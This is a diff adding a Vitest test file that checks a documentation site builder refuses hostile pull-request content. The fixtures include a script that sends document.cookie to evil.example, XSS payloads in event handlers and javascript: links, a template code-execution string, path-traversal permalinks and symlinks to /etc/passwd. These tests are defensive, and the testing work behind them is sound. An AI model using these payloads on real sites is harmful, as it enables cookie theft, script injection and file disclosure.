@@ -1,0 +1,244 @@
+// Content from a pull request, written by someone hostile (or unlucky): every case is a located
+// error, nothing runs, nothing is read from outside the content folder, nothing is written
+// outside the output folder, and a failed build leaves the previous site as it was.
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { describe, expect, it } from "vitest";
+import { buildReport, projectRoot, runBuild } from "../helpers/build.js";
+
+/** A content folder made of `files` (path → text), in a fresh temporary folder. */
+function site(files: Record<string, string>): string {
+  const dir = mkdtempSync(path.join(tmpdir(), "hostile-"));
+  const content = path.join(dir, "content");
+  for (const [file, text] of Object.entries({ "index.md": HOME, ...files })) {
+    mkdirSync(path.dirname(path.join(content, file)), { recursive: true });
+    writeFileSync(path.join(content, file), text);
+  }
+  return content;
+}
+
+const HOME = "---\ntitle: Home\n---\nWelcome.\n";
+const page = (body: string, frontmatter = "") => `---\ntitle: A page\n${frontmatter}---\n${body}\n`;
+
+const located = (lines: string[], content: string) =>
+  lines.map((l) => l.replaceAll(path.relative(projectRoot, content), "content"));
+
+describe("content that would run code at build time", () => {
+  it("is refused before anything runs, at the file", async () => {
+    const marker = path.join(tmpdir(), `hostile-ran-${process.pid}`);
+    const run = `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "ran")`;
+    const content = site({
+      "evil.njk": '{{ range.constructor("return process.pid")() }}',
+      "_data/x.js": `${run}; module.exports = {};`,
+      "guide/page.md": page("Text."),
+      "guide/page.11tydata.cjs": `${run}; module.exports = {};`,
+    });
+    const { result, report } = await buildReport(content);
+    expect(result.code).toBe(1);
+    expect(
+      located(
+        report.problems.map((p) => `${p.file} ${p.kind}`),
+        content,
+      ),
+    ).toEqual([
+      "content/_data/x.js unsafe-content",
+      "content/evil.njk unsafe-content",
+      "content/guide/page.11tydata.cjs unsafe-content",
+    ]);
+    expect(report.problems[1]!.message).toBe(
+      "templates in the content folder run code when the site is built",
+    );
+    expect(existsSync(marker)).toBe(false);
+    expect(readdirSync(result.output)).toEqual([]);
+  });
+
+  it("runs when the site's config names it as trusted", async () => {
+    const content = site({
+      "maintained/list.njk": "---\ntitle: List\npermalink: /list/\n---\n{{ 6 * 7 }}-computed",
+    });
+    const config = path.join(path.dirname(content), "eleventy.config.mjs");
+    writeFileSync(
+      config,
+      `import { docsPlugin } from ${JSON.stringify(path.join(projectRoot, "src/index.js"))};\n` +
+        `export default (c) => { c.addPlugin(docsPlugin, { trustedContent: ["maintained"] }); };\n`,
+    );
+    const result = await runBuild(content, [`--config=${config}`]);
+    expect(result.stderr).toBe("");
+    expect(result.code).toBe(0);
+    expect(result.html("/list/")).toContain("42-computed");
+  });
+});
+
+describe("raw HTML in content", () => {
+  it("keeps what guides use and refuses what runs, at its line", async () => {
+    const content = site({
+      "page.md": page(
+        [
+          "<details><summary>More</summary><abbr title='x'>X</abbr></details>", // line 4: kept
+          "",
+          "<script>fetch('https://evil.example/?' + document.cookie)</script>", // 6
+          "",
+          'Text <img src="x.png" alt="x" onerror="alert(1)"> and <a href="java&#x09;script:alert(1)">x</a>', // 8
+          "",
+          '<svg onload="alert(1)"></svg>', // 10
+          "",
+          '<iframe src="https://evil.example/"></iframe>', // 12
+          "",
+          '<iframe src="https://www.youtube-nocookie.com/embed/x" title="Video"></iframe>', // 14: allowed
+          "",
+          "<style>body { background: url(https://evil.example/track) }</style>", // 16
+        ].join("\n"),
+      ),
+      "_data/site.yml": "embedHosts: [www.youtube-nocookie.com]\n",
+      "_data/timeline.yml":
+        "- date: 2024-01-01\n  title: Start\n  description: <script>alert(1)</script>\n",
+    });
+    const { result, report } = await buildReport(content);
+    expect(result.code).toBe(1);
+    const unsafe = report.problems.filter((p) => p.kind === "unsafe-html");
+    expect(
+      located(
+        unsafe.map((p) => `${p.file}:${p.line} ${p.message}`),
+        content,
+      ),
+    ).toEqual([
+      "content/_data/timeline.yml:1 raw HTML <script> is not allowed in content",
+      "content/page.md:6 raw HTML <script> is not allowed in content",
+      "content/page.md:8 the onerror attribute on <img> runs a script",
+      "content/page.md:8 javascript: address in the href attribute of <a>",
+      "content/page.md:10 the onload attribute on <svg> runs a script",
+      "content/page.md:12 raw HTML <iframe> from evil.example is not allowed in content",
+      "content/page.md:16 a <style> element in content loads something",
+    ]);
+  });
+
+  it("and active addresses in settings are refused", async () => {
+    const content = site({
+      "_data/site.yml":
+        "navigation:\n  - text: Home\n    href: ' javascript:alert(1)'\nfooterLinks:\n  - text: Data\n    href: data:text/html,x\n",
+    });
+    const { report } = await buildReport(content);
+    expect(report.problems.map((p) => `${p.line} ${p.message}`)).toEqual([
+      expect.stringMatching(/^3 .*navigation.0.href.*must be a site path or an https:\/\/ address/),
+      expect.stringMatching(
+        /^6 .*footerLinks.0.href.*must be a site path or an https:\/\/ address/,
+      ),
+    ]);
+  });
+
+  it("is refused by every page's Content-Security-Policy too", async () => {
+    const result = await runBuild(site({}));
+    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/
+      .exec(result.html("/"))?.[1]
+      ?.replaceAll("&#39;", "'");
+    expect(csp).toMatch(/script-src 'self' 'sha256-[^']+' 'wasm-unsafe-eval'/);
+    expect(csp).toContain("object-src 'none'");
+    expect(csp).toContain("frame-src 'none'");
+  });
+});
+
+describe("paths", () => {
+  it("a permalink cannot write outside the output folder or over another page", async () => {
+    const escape = `hostile-escape-${process.pid}`;
+    const content = site({
+      "a.md": page("A.", `permalink: ../../../../../../../tmp/${escape}/index.html\n`),
+      "b.md": page("B.", "permalink: /x/%2e%2e/about/\n"),
+    });
+    const { result, report } = await buildReport(content);
+    expect(result.code).toBe(1);
+    expect(
+      located(
+        report.problems.map((p) => `${p.file}:${p.line} ${p.kind}`),
+        content,
+      ),
+    ).toEqual(["content/a.md:3 unsafe-permalink", "content/b.md:3 unsafe-permalink"]);
+    expect(existsSync(path.join("/tmp", escape))).toBe(false);
+    expect(readdirSync(result.output)).toEqual([]);
+  });
+
+  it("a symbolic link out of the content folder is refused before it is read", async () => {
+    const content = site({});
+    symlinkSync("/etc/passwd", path.join(content, "leak.md"));
+    symlinkSync("/etc", path.join(content, "outside"));
+    mkdirSync(path.join(content, "inside"));
+    symlinkSync(path.join(content, "index.md"), path.join(content, "inside/home.md"));
+    const { result, report } = await buildReport(content);
+    expect(
+      located(
+        report.problems.map((p) => `${p.file} ${p.message}`),
+        content,
+      ),
+    ).toEqual([
+      "content/leak.md this is a symbolic link to /etc/passwd, outside the content folder",
+      "content/outside this is a symbolic link to /etc, outside the content folder",
+    ]);
+    expect(readdirSync(result.output)).toEqual([]);
+  });
+
+  it("file names that differ only in case, or cannot be an address, are reported", async () => {
+    const content = site({
+      "Guide.md": page("One."),
+      "guide.md": page("Two."),
+      "a#b.md": page("C."),
+    });
+    const { report } = await buildReport(content);
+    const names = report.problems.filter((p) => p.kind === "file-name");
+    expect(
+      located(
+        names.map((p) => `${p.file} ${p.message}`),
+        content,
+      ).sort(),
+    ).toEqual([
+      "content/a#b.md the file name has #, ? or %, so the page's address could not be visited",
+      expect.stringMatching(
+        /^content\/(G|g)uide\.md this file and content\/(G|g)uide\.md differ only in capital letters/,
+      ),
+    ]);
+  });
+});
+
+describe("the output folder", () => {
+  it("is replaced whole: deleted pages go, a failed build leaves the last good site", async () => {
+    const content = site({ "old.md": page("Old.") });
+    const output = mkdtempSync(path.join(tmpdir(), "hostile-output-"));
+    writeFileSync(path.join(output, "stale.html"), "from before");
+    const first = await runBuild(content, [`--output=${output}`]);
+    expect(first.code).toBe(0);
+    expect(existsSync(path.join(output, "old/index.html"))).toBe(true);
+    expect(existsSync(path.join(output, "stale.html"))).toBe(false);
+
+    writeFileSync(path.join(content, "old.md"), page("<script>x</script>"));
+    const failed = await runBuild(content, [`--output=${output}`]);
+    expect(failed.code).toBe(1);
+    expect(readFileSync(path.join(output, "old/index.html"), "utf8")).toContain("Old.");
+    expect(readdirSync(path.dirname(output)).filter((f) => f.includes(".building-"))).toEqual([]);
+  });
+
+  it("is not written by two builds at once", async () => {
+    const content = site({});
+    const output = path.join(mkdtempSync(path.join(tmpdir(), "hostile-output-")), "_site");
+    writeFileSync(path.join(path.dirname(output), "._site.lock"), String(process.pid));
+    const result = await runBuild(content, [`--output=${output}`]);
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain(
+      `another build (process ${process.pid}) is writing ${output}; wait for it to finish, or stop it`,
+    );
+  });
+
+  it("is never the content folder or the project", async () => {
+    const content = site({});
+    const result = await runBuild(content, [`--output=${path.dirname(content)}`]);
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain("holds the content or the project; choose a folder of its own");
+    expect(existsSync(path.join(content, "index.md"))).toBe(true);
+  });
+});
